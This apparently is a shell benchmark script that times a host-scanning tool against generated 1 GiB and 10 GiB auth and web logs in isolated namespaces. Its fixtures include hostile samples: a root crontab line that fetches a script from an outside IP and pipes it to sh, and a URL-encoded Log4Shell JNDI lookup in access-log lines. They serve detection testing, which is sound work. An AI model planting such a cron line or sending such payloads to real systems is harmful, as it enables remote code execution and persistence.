#!/bin/sh
# Peak memory and time of a whole look at this machine with logs of 1 GiB and of
# 10 GiB and a crontab to be explained, in mount and process namespaces of its
# own. Needs root, and 22 GiB in TMPDIR, which are free again at the end.
#   bench/look_at_logs.sh DEMINE
set -eu
demine=$(realpath "$1")
dir=$(mktemp -d)
trap 'rm -rf "$dir"' EXIT
awk 'BEGIN { for (i = 0; i < 40000; i++) printf "Nov 22 18:%02d:%02d shop sshd[%d]: Failed password for invalid user admin%d from 198.51.100.%d port %d ssh2\n", \
	i / 60 % 60, i % 60, i % 30000, i % 100, i % 250, 1024 + i }' >"$dir/auth"
awk 'BEGIN { for (i = 0; i < 30000; i++) printf "203.0.113.%d - - [22/Nov/2026:18:%02d:01 +0800] \"GET /%s HTTP/1.1\" 404 1 \"-\" \"-\"\n", \
	i % 250, i / 60 % 60, i % 20 ? "shop/item/" i "?ref=%2Fhome" : "?x=%24%7bjndi%3aldap%3a%2f%2fh%2fa%7d" }' >"$dir/access"
fill() { # FILE BLOCK GIB
	: >"$1"
	while [ "$(stat -c %s "$1")" -lt $(($3 << 30)) ]; do cat "$2" "$2" "$2" "$2" "$2" "$2" "$2" "$2" >>"$1"; done
}
for gib in 1 10; do
	rm -rf "$dir/log" "$dir/cron"
	mkdir -p "$dir/log/nginx" "$dir/cron/crontabs"
	fill "$dir/log/auth.log" "$dir/auth" $gib
	fill "$dir/log/nginx/access.log" "$dir/access" $gib
	echo '* * * * * curl -fsSL http://203.0.113.66/x.sh | sh' >"$dir/cron/crontabs/root"
	chmod 600 "$dir/cron/crontabs/root"
	for round in 1 2 3; do
		echo "$gib GiB each, load $(cut -d' ' -f1-3 /proc/loadavg): $(unshare -mpf --mount-proc sh -euc '
			mount --bind "$1/log" /var/log
			mount --bind "$1/cron" /var/spool/cron
			"$2" scan --json --snapshot || true' sh "$dir" "$demine" |
			python3 -c 'import json, sys; s = json.load(sys.stdin); print(s["took"], s["verdict"], sum(1 for e in s["snapshot"].get("log", [])), "events")')"
	done
done
